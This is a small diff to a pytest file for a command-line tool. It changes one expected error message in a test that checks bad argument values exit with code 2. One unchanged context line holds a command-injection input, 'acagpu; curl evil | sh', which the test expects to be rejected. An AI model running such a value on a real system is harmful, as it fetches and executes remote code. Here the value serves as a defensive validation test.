@@ -86,7 +86,7 @@ def test_refuses_to_overwrite_without_force(tmp_path: Path) -> None:
         (("--pip-spec", "acagpu; curl evil | sh"), "invalid --pip-spec"),
         (("--flavor", "runtime'}}"), "invalid flavor"),
         (("--github-repo", "not a slug"), "invalid GitHub repository"),
-        (("--limit", "0"), "at least 1"),
+        (("--limit", "0"), "--limit"),
     ],
 )
 def test_bad_values_exit_2_and_write_nothing(tmp_path: Path, args: tuple[str, ...], message: str) -> None:
